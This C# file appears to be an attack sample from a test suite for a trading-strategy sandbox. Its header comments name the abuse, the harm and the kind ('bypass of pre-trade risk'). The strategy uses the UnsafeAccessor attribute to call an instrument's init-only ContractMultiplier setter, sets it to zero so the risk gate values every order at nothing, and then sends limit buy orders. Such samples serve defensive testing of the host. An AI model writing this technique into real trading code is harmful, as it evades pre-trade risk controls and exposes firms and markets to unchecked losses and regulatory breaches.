// Abuses: UnsafeAccessor: an extern method without body or P/Invoke; no member reference to the setter anywhere.
// Harm: calls the init accessor of an instrument that is in use; multiplier 0 makes every order worth nothing to the gate.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAccessorSetterAttack;

public sealed class UnsafeAccessorSetterStrategy : Strategy
{
    [UnsafeAccessor(UnsafeAccessorKind.Method, Name = "set_ContractMultiplier")]
    private static extern void SetMultiplier(Instrument instrument, long value);

    public override void OnBook(in BookEvent bookEvent)
    {
        SetMultiplier(Context.Instrument(bookEvent.Instrument), 0);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
